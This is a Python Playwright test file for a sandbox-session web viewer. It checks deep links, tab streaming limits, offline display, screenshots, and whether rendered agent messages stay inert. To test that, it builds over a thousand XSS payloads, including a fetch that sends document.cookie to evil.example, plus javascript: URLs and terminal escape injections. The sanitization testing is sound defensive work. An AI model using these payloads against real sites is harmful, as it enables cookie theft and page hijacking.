"""The pages of a session without a herd: links, lost connections, and a thousand hostile documents."""

from datetime import datetime, timedelta
from itertools import product
from typing import Any

import pytest
from playwright.async_api import Browser, Page, expect

from tests.integration.pages.conftest import shows_at_end, violations
from tests.integration.pages.examples import APPROVALS, TASKS, ago
from tests.integration.pages.gateway_double import GatewayDouble
from tests.integration.pages.pictures import check_picture, pictured_tab
from tests.polling import eventually
from tests.recordings.sessions import events as recorded

pytestmark = pytest.mark.asyncio(loop_scope="module")
SANDBOX = {
    "project": "demo", "sandbox": "sbx-001", "state": "running", "task": "task-001", "attempt": 1, "runtime": "process",
    "requested_at": ago(9), "running_at": ago(8), "ended_at": None, "error": None,
}  # fmt: skip
SOURCE = "/sandherd/sandbox/sbx-001"
CODE = (
    "window.evil=1", "alert(1)", "fetch('https://evil.example/'+document.cookie)", "new Image().src='/evil.png'",
    "top.location='https://evil.example/'", "document.title='evil'", "confirm(1)", "navigator.sendBeacon('/evil.png')",
)  # fmt: skip
PLACES = (
    "<script>{}</script>",
    '<img src=/evil.png onerror="{}">',
    '<svg onload="{}">',
    "<svg><script>{}</script></svg>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    '<iframe src="javascript:{}"></iframe>',
    '<a href="javascript:{}">x</a>',
    "[x](javascript:{})",
    "![x](https://evil.example/?{})",
    '<details open ontoggle="{}">',
    '<body onload="{}">',
    '<input autofocus onfocus="{}">',
    '<video src=/evil.png onerror="{}">',
    '<object data="javascript:{}"></object>',
    '<embed src="/evil.png?{}">',
    '<link rel=stylesheet href="https://evil.example/?{}">',
    "<style>@import '/evil.png?{}'</style>",
    '<meta http-equiv=refresh content="0;url=https://evil.example/?{}">',
    '<base href="https://evil.example/?{}">',
    '<form action="https://evil.example/?{}"><button>x</button></form>',
    '<math><mtext><img src=/evil.png onerror="{}">',
    "<template><script>{}</script></template>",
    '"><script>{}</script>',
    "'-{}-'",
    "${{{}}}",
    "{{{{constructor.constructor('{}')()}}}}",
    "\x1b]52;c;{}\x07",
    "\x1b]8;;javascript:{}\x07x\x1b]8;;\x07",
    "</textarea><script>{}</script>",
    "<!--><script>{}</script>-->",
    "data:text/html,<script>{}</script>",
    "<xss style=\"background:url('/evil.png?{}')\">",
)
WRAPPED = ("{}", "```html\n{}\n```", "<b>{}</b>", "\N{RIGHT-TO-LEFT OVERRIDE}{}")
DOCUMENTS = [wrap.format(place.format(code)) for code, place, wrap in product(CODE, PLACES, WRAPPED)]


def identifier(number: int) -> str:
    return f"01976e3c-0000-7000-8000-{number:012}"


def event(number: int, name: str, **data: Any) -> dict[str, Any]:
    """An event of the sandbox, as in lists."""
    envelope = {
        "id": identifier(number), "type": name, "source": SOURCE, "sequence": number, "subject": "sbx-001",
        "time": ago(8 - number / 1000), "taskid": "task-001", "sandboxid": "sbx-001", "data": data,
    }  # fmt: skip
    return {"stream_sequence": number, "envelope": envelope}


def show(double: GatewayDouble, events: list[dict[str, Any]]) -> None:
    """Make these the events of the session, oldest first."""
    double.replies |= {
        "/sandboxes/sbx-001": SANDBOX,
        "/tasks/task-001": TASKS[0],
        "/sandboxes/sbx-001/events": {"events": events[::-1], "next_cursor": None, "stored_through": 10_000},
        "/sandboxes/sbx-001/output": {"chunks": [], "next_cursor": None},
    }


def messages(count: int) -> list[dict[str, Any]]:
    return [event(number, "agent.message", content=f"message {number}.") for number in range(1, count + 1)]


@pytest.mark.parametrize("named", ["7", identifier(7)], ids=["position", "id"])
async def test_session_opens_at_the_event_of_its_address(double: GatewayDouble, tab: Page, named: str) -> None:
    """A link of a result or of evidence opens its event; the page does not jump to its end."""
    show(double, messages(90))
    await tab.goto(f"/sandboxes/sbx-001?at={named}")
    await expect(tab.get_by_role("button", name="message 7.", expanded=True)).to_be_in_viewport()
    await expect(tab.get_by_text("message 90.", exact=True)).to_have_count(0)
    await expect(tab.get_by_role("button", name="To the end")).to_be_visible()


async def test_hidden_tabs_of_sessions_have_no_stream(double: GatewayDouble, tab: Page) -> None:
    """A browser has six connections to a host: a hidden tab opens no stream, and follows when it is shown."""
    show(double, messages(3))
    await tab.add_init_script(
        "window.shown = false; Object.defineProperty(document, 'hidden', { get: () => !window.shown })"
    )
    await tab.goto("/sandboxes/sbx-001")
    await expect(tab.get_by_role("heading", name=TASKS[0]["text"])).to_be_visible()
    assert not any("/events/stream" in path for path in double.requested)
    await tab.evaluate("() => { window.shown = true; document.dispatchEvent(new Event('visibilitychange')); }")
    await expect(tab.get_by_text("message 3.", exact=True)).to_be_visible()
    await eventually(lambda: double.open_streams == 1, "the stream is open")


async def test_more_sessions_than_places_are_read_without_a_stream(double: GatewayDouble, tab: Page) -> None:
    """If a browser shows five sessions, one states that it is not live, shows its events, and later becomes live."""
    show(double, messages(3))
    tabs = [tab, *[await tab.context.new_page() for _ in range(4)]]
    for one in tabs:
        await one.goto("/sandboxes/sbx-001")
        await expect(one.get_by_text("message 3.", exact=True)).to_be_visible()
    await eventually(lambda: double.open_streams == 4, "four of them have a stream")
    await expect(tabs[-1].get_by_text("Not live: this browser shows 4 other sessions")).to_be_visible()
    assert await violations(tabs[-1]) == []
    show(double, messages(4))
    await expect(tabs[-1].get_by_text("message 4.", exact=True)).to_be_visible()
    await tabs[1].close()
    await expect(tabs[-1].get_by_text("live", exact=True)).to_be_visible()
    await expect(tabs[-1].get_by_text("Not live")).to_have_count(0)


async def test_session_on_a_phone_without_a_connection(double: GatewayDouble, tab: Page) -> None:
    """One notice states that the connection is lost; at 360 px all of it fits, and axe finds no violation."""
    show(double, messages(3))
    await tab.set_viewport_size({"width": 360, "height": 740})
    await tab.add_init_script("localStorage.setItem('sandherd.theme', 'contrast')")
    await tab.goto("/sandboxes/sbx-001")
    await expect(tab.get_by_text("message 3.", exact=True)).to_be_visible()
    await expect(tab.get_by_text("unmetered")).to_be_visible()
    await double.disconnect()
    await expect(tab.get_by_text("Not connected")).to_be_visible()
    await expect(tab.get_by_text("The connection is interrupted")).to_have_count(0)
    for address in ("/sandboxes/sbx-001", "/sandboxes/sbx-001/replay"):
        await tab.goto(address)
        await expect(tab.get_by_role("heading").first).to_be_visible()
        assert await violations(tab) == [], address
        assert await tab.evaluate("() => document.documentElement.scrollWidth") <= 360, address


async def test_session_and_replay_look_as_in_their_pictures(chromium: Browser, double: GatewayDouble) -> None:
    """The pictures of the README are of a recorded session of a real agent program, as the pages show it."""
    found: list[dict[str, Any]] = [
        {"stream_sequence": number, "envelope": one | {"subject": "sbx-001", "sandboxid": "sbx-001"}}
        for number, one in enumerate(recorded("long-frontend")[:-1], 1)
    ]
    began, ended = (datetime.fromisoformat(found[at]["envelope"]["time"]) for at in (0, -1))
    times = dict.fromkeys(("requested_at", "running_at", "submitted_at", "started_at"), began.isoformat())
    show(double, found)
    double.replies["/approvals"] = {"approvals": APPROVALS[1:], "next_cursor": None}
    double.replies["/sandboxes/sbx-001"] = SANDBOX | times
    double.replies["/tasks/task-001"] = TASKS[0] | times | {"text": "Build the components of the shop"}
    page = await pictured_tab(chromium, double, ended + timedelta(minutes=1))
    await page.goto("/sandboxes/sbx-001")
    await expect(page.get_by_text("40 components are built.").first).to_be_visible()
    await check_picture(page, "session.png")
    double.replies["/sandboxes/sbx-001/events"] = {"events": found, "next_cursor": None}  # oldest first
    await page.goto("/sandboxes/sbx-001/replay")
    await eventually(lambda: shows_at_end(page, "40 components are built."), "the replay is at its end")
    await expect(page.get_by_text("export const C39").first).to_be_visible()
    await check_picture(page, "replay.png")
    await page.context.close()


async def test_output_that_is_not_read_is_not_shown_as_missing(double: GatewayDouble, tab: Page) -> None:
    """A replay shows that its output could not be read, and reads it again on request."""
    show(double, messages(3))
    output = "/sandboxes/sbx-001/output"
    double.replies[output] = 503
    await tab.goto("/sandboxes/sbx-001/replay?view=terminal")
    await expect(tab.get_by_text("the test refuses this")).to_be_visible()
    await expect(tab.get_by_text("No terminal output is stored")).to_have_count(0)
    chunk = {"stream_sequence": 1, "time": ago(9), "text": "made by the agent\n"}
    double.replies[output] = {"chunks": [chunk], "next_cursor": None}
    await tab.get_by_role("button", name="Retry").click()
    await tab.get_by_role("slider").press("End")
    await expect(tab.get_by_text("made by the agent")).to_be_visible()


async def test_a_thousand_hostile_documents_execute_and_load_nothing(double: GatewayDouble, tab: Page) -> None:
    """In results and in a timeline they are text: they cause no element, dialog, request or navigation."""
    assert len(DOCUMENTS) >= 1000
    kinds = [("agent.message", "content"), ("agent.error", "error"), ("agent.user_message", "content")]
    found: list[dict[str, Any]] = [
        event(number, kinds[number % 3][0], **{kinds[number % 3][1]: text}) for number, text in enumerate(DOCUMENTS, 1)
    ]
    show(double, found)
    hit = {"project": "demo", "entity": "sbx-001", "type": "agent.message", "kind": "message", "turn": 1, "matches": []}
    hits = [
        {**hit, "id": identifier(number), "stream_sequence": number, "time": ago(1), "snippet": text}
        for number, text in enumerate(DOCUMENTS, 1)
    ]
    double.replies["/search"] = {"hits": hits, "next_cursor": None}
    effects: list[str] = []
    own = (double.url + "/api/", double.url + "/assets/", double.url + "/icon.svg", "data:image/png", "blob:")
    pages = [f"{double.url}/search?q=x", f"{double.url}/sandboxes/sbx-001"]
    tab.on("request", lambda one: None if one.url.startswith(own) or one.url in pages else effects.append(one.url))
    tab.on("dialog", lambda one: effects.append(one.message))
    tab.on("pageerror", lambda error: effects.append(str(error)))
    await tab.goto(pages[0])
    await expect(tab.get_by_role("list", name="Results").get_by_role("listitem")).to_have_count(len(DOCUMENTS))
    inert = await tab.evaluate(_INERT)
    await tab.goto(pages[1])
    await expect(tab.locator("[role=article]").first).to_be_visible()
    positions = await tab.evaluate(_READ_ALL)
    assert (inert, await tab.evaluate(_INERT), effects) == ([None, 0, 0], [None, 0, 0], [])
    assert positions == len(DOCUMENTS)
    await expect(tab).to_have_title("(2) sbx-001 · Sandherd")


_INERT = """() => [window.evil ?? null,
    document.querySelectorAll(`main :is(img, script, iframe, object, embed, video, svg[onload], link, style, base, meta,
        b, form[action])`).length,
    [...document.querySelectorAll("a")].filter((link) => link.origin !== origin).length]"""
_READ_ALL = """async () => { const feed = document.querySelector("[role=feed]"), seen = new Set();
    for (feed.scrollTop = 0; ; feed.scrollTop = 0) { // again if rows were measured meanwhile: the list was at its end
        for (let frame = 0; frame < 2; frame += 1) await new Promise(requestAnimationFrame);
        if (feed.scrollTop === 0) break;
    }
    for (let next = -1; ; ) {
        for (let frame = 0; frame < 2; frame += 1) await new Promise(requestAnimationFrame);
        for (const one of feed.querySelectorAll("[role=article]")) seen.add(one.getAttribute("aria-posinset"));
        if (feed.scrollTop === next) return seen.size;
        next = feed.scrollTop;
        feed.scrollTop += feed.clientHeight; } }"""
